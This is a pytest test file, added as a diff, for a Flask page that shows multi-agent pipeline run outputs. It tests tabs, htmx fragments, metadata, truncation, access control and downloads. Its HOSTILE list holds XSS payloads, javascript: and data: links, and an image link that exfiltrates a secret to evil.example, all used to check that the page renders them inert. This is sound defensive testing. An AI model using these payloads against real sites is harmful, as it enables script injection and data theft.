@@ -1,0 +1,276 @@
+"""A run's page: tabs as fragments of one template, safe markdown, raw view, errors and downloads."""
+
+from __future__ import annotations
+
+import json
+import re
+import tracemalloc
+from datetime import datetime, timedelta, timezone
+from typing import Any
+
+import pytest
+from flask import Flask
+from markupsafe import escape
+from flask.testing import FlaskClient
+
+from artifacts_app import recording, rendering
+from artifacts_app.extensions import db
+from artifacts_app.models import PipelineRun, User
+from tests.factories import make_run, make_user
+from tests.http_helpers import log_in
+
+HX = {"HX-Request": "true"}
+SELECTED = re.compile(r'<a role="tab" id="tab-([a-z0-9-]+)"[^>]*aria-selected="true"')
+
+
+def steps(*outputs: str, **extra: Any) -> list[dict[str, Any]]:
+    names = ["Researcher", "Analyst", "Writer", "Editor"]
+    return [
+        {"agentId": names[i].lower(), "agentName": names[i], "output": output, "stepOrder": i, **extra}
+        for i, output in enumerate(outputs)
+    ]
+
+
+@pytest.fixture
+def user(app: Flask) -> User:
+    return make_user("reader@example.com")
+
+
+@pytest.fixture
+def signed_in(client: FlaskClient, user: User) -> FlaskClient:
+    log_in(client, user.email)
+    return client
+
+
+@pytest.fixture
+def run(user: User) -> PipelineRun:
+    return make_run(user, steps=steps("alpha output", "beta output", "gamma output"), final_output="omega output")
+
+
+def panel_of(html: str, key: str) -> str:
+    """The inside of one tabpanel element of a full page."""
+    match = re.search(rf'<div role="tabpanel" id="panel-{key}".*?>(.*?)\n  </div>', html, re.S)
+    assert match, key
+    return match.group(1)
+
+
+@pytest.mark.parametrize(("tab", "text"), [("final", "omega"), ("step-1", "alpha"), ("step-2", "beta"), ("step-3", "gamma")])
+def test_each_tab_fragment_holds_exactly_its_output(signed_in: FlaskClient, run: PipelineRun, tab: str, text: str) -> None:
+    response = signed_in.get(f"/artifacts/{run.id}?tab={tab}", headers=HX)
+    fragment = response.get_data(as_text=True)
+    assert response.status_code == 200 and "<html" not in fragment
+    assert "HX-Request" in response.headers["Vary"]
+    assert f"{text} output" in fragment
+    others = {"omega", "alpha", "beta", "gamma"} - {text}
+    assert not [other for other in others if f"{other} output" in fragment]
+
+
+def test_the_full_page_renders_only_the_active_tab(signed_in: FlaskClient, run: PipelineRun) -> None:
+    html = signed_in.get(f"/artifacts/{run.id}?tab=step-2").get_data(as_text=True)
+    assert "<html" in html
+    assert SELECTED.findall(html) == ["step-2"]
+    assert "beta output" in panel_of(html, "step-2")
+    for other in ("alpha", "gamma", "omega"):
+        assert f"{other} output" not in html
+    labels = re.findall(r'role="tab"[^>]*>([^<]+)</a>', html)
+    assert labels == ["Final output", "1 · Researcher", "2 · Analyst", "3 · Writer"]
+    tab = re.search(r'<a role="tab" id="tab-step-3"[^>]*>', html).group(0)
+    assert f'href="/artifacts/{run.id}?tab=step-3"' in tab  # a real link without JavaScript
+    assert f'hx-get="/artifacts/{run.id}?tab=step-3"' in tab and 'hx-push-url="true"' in tab
+    assert 'aria-controls="panel-step-3"' in tab and 'tabindex="-1"' in tab
+    assert 'role="tablist"' in html and 'aria-labelledby="tab-step-3"' in html
+    # Without a tab parameter the final output is active.
+    assert SELECTED.findall(signed_in.get(f"/artifacts/{run.id}").get_data(as_text=True)) == ["final"]
+
+
+def test_the_page_shows_the_runs_metadata(signed_in: FlaskClient, user: User) -> None:
+    run = make_run(user, model="gpt-4o", usage={"inputTokens": 12345, "outputTokens": 950},
+                   variables={"audience": "engineers", "tone": "concise"}, input="x" * 700)
+    html = signed_in.get(f"/artifacts/{run.id}").get_data(as_text=True)
+    assert "gpt-4o" in html and 'title="12,345 tokens">12.3K<' in html
+    assert 'title="$0.040362500000">$0.04<' in html
+    assert "<code>audience</code></th><td>engineers</td>" in html
+    assert "<details><summary>" in html  # a long input is collapsible
+    assert "42 s" in html
+
+
+def test_step_with_its_own_usage_shows_its_model_tokens_and_cost(signed_in: FlaskClient, user: User) -> None:
+    mixed = steps("a", "b", model="claude-haiku-4-5", inputTokens=1000, outputTokens=200)
+    run = make_run(user, steps=mixed, usage=None)
+    fragment = signed_in.get(f"/artifacts/{run.id}?tab=step-2", headers=HX).get_data(as_text=True)
+    assert "claude-haiku-4-5" in fragment and 'title="1,000 tokens">1K<' in fragment
+    assert 'title="$0.002000000000">$0.0020<' in fragment or 'title="$0.002000000000">$0.002<' in fragment
+
+
+def test_a_failed_run_shows_its_error_and_the_steps_that_completed(signed_in: FlaskClient, user: User) -> None:
+    run = make_run(user, status="failed", error="RateLimitError: 429 from provider", steps=steps("partial one"),
+                   final_output="")
+    html = signed_in.get(f"/artifacts/{run.id}").get_data(as_text=True)
+    assert 'class="run-error" role="alert"' in html and "RateLimitError: 429 from provider" in html
+    assert "This run failed before producing a final output." in html
+    assert "1 · Researcher" in html
+    assert "partial one" in signed_in.get(f"/artifacts/{run.id}?tab=step-1", headers=HX).get_data(as_text=True)
+
+
+def test_a_legacy_run_shows_its_text_output_as_the_only_tab(signed_in: FlaskClient, user: User) -> None:
+    when = datetime(2024, 1, 5, tzinfo=timezone.utc)
+    run = recording.record_legacy_run(user, pipeline="Old", input="in", final_output="## Legacy *text*",
+                                      created_at=when, completed_at=when + timedelta(seconds=2))
+    db.session.commit()
+    html = signed_in.get(f"/artifacts/{run.id}").get_data(as_text=True)
+    assert re.findall(r'role="tab"[^>]*>([^<]+)</a>', html) == ["Final output"]
+    assert "<h2>Legacy <em>text</em></h2>" in html
+    download = signed_in.get(f"/artifacts/{run.id}/download?part=final&format=md")
+    assert download.get_data(as_text=True) == "## Legacy *text*"
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)><circle/></svg>",
+    "[click](javascript:alert(1))",
+    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    '<a href="javascript:alert(1)">raw link</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">raw data link</a>',
+    "![leak](https://evil.example/collect?secret=1)",
+    '<div hx-get="/logout" hx-trigger="load">htmx</div>',
+    "<iframe src=https://evil.example></iframe>",
+    "<form action=https://evil.example><input name=x></form>",
+    "<style>body{display:none}</style>",
+    "<textarea>unclosed",
+]
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_hostile_output_renders_inert(signed_in: FlaskClient, user: User, hostile: str) -> None:
+    run = make_run(user, steps=steps(hostile), final_output=hostile)
+    html = signed_in.get(f"/artifacts/{run.id}?tab=step-1").get_data(as_text=True)
+    rendered = re.search(r'<div class="markdown" hx-disable>(.*?)</div>\n    <pre class="raw', html, re.S)
+    assert rendered, "the output sits in an hx-disable container"
+    body = rendered.group(1)
+    assert not re.search(r"<(script|iframe|form|input|style|svg|textarea|img)\b", body, re.I)
+    assert not re.search(r"\son\w+\s*=", body, re.I)
+    urls = re.findall(r'(?:href|src)="([^"]*)"', body)
+    assert not [url for url in urls if re.match(r"\s*(javascript|data|vbscript):", url, re.I)], urls
+    assert "hx-get" not in body and "hx-trigger" not in body
+    # The raw view shows exactly the text, escaped; the rest of the page is still there.
+    assert f'id="view-step-1-source">{escape(hostile)}</pre>' in html
+    assert html.rstrip().endswith("</html>") and "Download all" in html
+
+
+def test_images_from_other_hosts_become_links_not_requests(signed_in: FlaskClient, user: User) -> None:
+    run = make_run(user, final_output="![chart](https://evil.example/leak?q=secret)")
+    html = signed_in.get(f"/artifacts/{run.id}").get_data(as_text=True)
+    assert "<img" not in html
+    assert re.search(r'<a[^>]*class="blocked-image"[^>]*href="https://evil.example/leak\?q=secret"|'
+                     r'<a[^>]*href="https://evil.example/leak\?q=secret"[^>]*class="blocked-image"', html)
+
+
+def test_rendered_and_raw_views_and_copy(signed_in: FlaskClient, user: User) -> None:
+    source = "# Title\n\n```python\nprint('<b>')\n```\n"
+    run = make_run(user, final_output=source)
+    html = signed_in.get(f"/artifacts/{run.id}").get_data(as_text=True)
+    assert '<h1>Title</h1>' in html and 'class="highlight"' in html
+    raw = re.search(r'<pre class="raw wrap" id="view-final-source">(.*?)</pre>', html, re.S).group(1)
+    assert raw == "# Title\n\n```python\nprint(&#39;&lt;b&gt;&#39;)\n```\n"
+    assert 'value="raw"' in html and 'data-copy="view-final-source"' in html
+    assert "pygments.css" in html
+
+
+def test_a_tab_opened_twice_renders_once(signed_in: FlaskClient, run: PipelineRun, monkeypatch: pytest.MonkeyPatch) -> None:
+    calls: list[str] = []
+    original = rendering.render_markdown
+
+    def counting(text: str) -> Any:
+        calls.append(text)
+        return original(text)
+
+    monkeypatch.setattr(rendering, "render_markdown", counting)
+    for _ in range(3):
+        assert signed_in.get(f"/artifacts/{run.id}?tab=step-3", headers=HX).status_code == 200
+    assert calls == ["gamma output"]
+
+
+def test_huge_outputs_are_cut_with_a_note_and_a_full_download(app: Flask, signed_in: FlaskClient, user: User) -> None:
+    app.config["RENDER_LIMIT_BYTES"] = 1000
+    long_text = "".join(f"line {i} with some words é\n" for i in range(400))
+    run = make_run(user, final_output=long_text)
+    html = signed_in.get(f"/artifacts/{run.id}").get_data(as_text=True)
+    note = re.search(r'<p class="truncated" role="note">(.*?)</p>', html, re.S).group(1)
+    total = len(long_text.encode())
+    assert "more are not shown" in note and f"/artifacts/{run.id}/download?part=final" in note
+    assert "line 30 " in html and "line 399" not in html
+    full = signed_in.get(f"/artifacts/{run.id}/download?part=final&format=txt").get_data()
+    assert len(full) == total
+
+
+def test_the_tab_query_does_not_pull_a_20_mb_artifact_into_python(
+    app: Flask, signed_in: FlaskClient, user: User
+) -> None:
+    huge = "# Big\n" + ("x" * 99 + "\n") * 200_000  # 20 MB in the first step
+    run = make_run(user, steps=steps(huge, "small step"), final_output="small final", usage=None)
+    signed_in.get(f"/artifacts/{run.id}?tab=step-2", headers=HX)  # warm up imports and caches
+    tracemalloc.start()
+    try:
+        for tab in ("step-2", "final", "step-1"):
+            response = signed_in.get(f"/artifacts/{run.id}?tab={tab}", headers=HX)
+            assert response.status_code == 200
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    # Reading the whole document would allocate well over 20 MB; the panels read at most
+    # RENDER_LIMIT_BYTES (64 KB) of one output each.
+    assert peak < 5_000_000, f"peak {peak:,} bytes"
+    page = signed_in.get(f"/artifacts/{run.id}?tab=step-1").get_data(as_text=True)
+    assert "Showing the first" in page and "MB" in page
+
+
+@pytest.mark.parametrize(("query", "status"), [
+    ("tab=step-9", 404), ("tab=step-0", 400), ("tab=step-x", 400), ("tab=..%2Fadmin", 400), ("tab=final2", 400),
+])
+def test_bad_tabs_get_a_clear_page_or_fragment(signed_in: FlaskClient, run: PipelineRun, query: str, status: int) -> None:
+    page = signed_in.get(f"/artifacts/{run.id}?{query}")
+    assert page.status_code == status and "<html" in page.get_data(as_text=True)
+    fragment = signed_in.get(f"/artifacts/{run.id}?{query}", headers=HX)
+    assert fragment.status_code == status
+    text = fragment.get_data(as_text=True)
+    assert "<html" not in text and 'role="alert"' in text
+
+
+def test_another_users_run_is_exactly_like_a_missing_one(signed_in: FlaskClient, app: Flask) -> None:
+    stranger = make_user("stranger@example.com")
+    theirs = make_run(stranger)
+    for suffix in ("", "?tab=step-1", "/download?part=all&format=json"):
+        mine = signed_in.get(f"/artifacts/{theirs.id}{suffix}")
+        missing = signed_in.get(f"/artifacts/00000000-0000-4000-8000-000000000000{suffix}")
+        assert mine.status_code == missing.status_code == 404
+        assert mine.get_data() == missing.get_data()
+
+
+def test_downloads_carry_the_right_headers_and_bytes(signed_in: FlaskClient, user: User) -> None:
+    run = make_run(user, pipeline="Research Brief: Q3/Q4 ünïcode", steps=steps("alpha", "beta"), final_output="omega")
+    short = run.id[:8]
+    cases = {
+        "part=step-2&format=md": ("text/markdown; charset=utf-8", f"research-brief-q3-q4-unicode-{short}-step-2.md", b"beta"),
+        "part=step-1&format=txt": ("text/plain; charset=utf-8", f"research-brief-q3-q4-unicode-{short}-step-1.txt", b"alpha"),
+        "part=final&format=md": ("text/markdown; charset=utf-8", f"research-brief-q3-q4-unicode-{short}-final.md", b"omega"),
+    }
+    for query, (mimetype, filename, body) in cases.items():
+        response = signed_in.get(f"/artifacts/{run.id}/download?{query}")
+        assert response.status_code == 200
+        assert response.headers["Content-Type"] == mimetype
+        assert response.headers["Content-Disposition"] == f'attachment; filename="{filename}"'
+        assert response.get_data() == body
+    whole = signed_in.get(f"/artifacts/{run.id}/download?part=all&format=json", buffered=False)
+    assert whole.is_streamed and "Content-Length" not in whole.headers  # sent while produced
+    document = json.loads(whole.get_data())
+    assert document["id"] == run.id and document["cost"] == format(run.cost, "f")
+    assert [s["output"] for s in document["steps"]] == ["alpha", "beta"]
+    markdown = signed_in.get(f"/artifacts/{run.id}/download?part=all&format=md").get_data(as_text=True)
+    assert markdown.index("## Step 1 · Researcher") < markdown.index("alpha") < markdown.index("## Step 2 · Analyst")
+    assert markdown.index("beta") < markdown.index("## Final output") < markdown.index("omega")
+    step = json.loads(signed_in.get(f"/artifacts/{run.id}/download?part=step-2&format=json").get_data())
+    assert step == {"run": run.id, "part": "step-2", "output": "beta", "agentId": "analyst",
+                    "agentName": "Analyst", "stepOrder": 1}
+    for bad in ("part=step-7", "part=everything", "format=pdf"):
+        assert signed_in.get(f"/artifacts/{run.id}/download?{bad}").status_code in (400, 404)
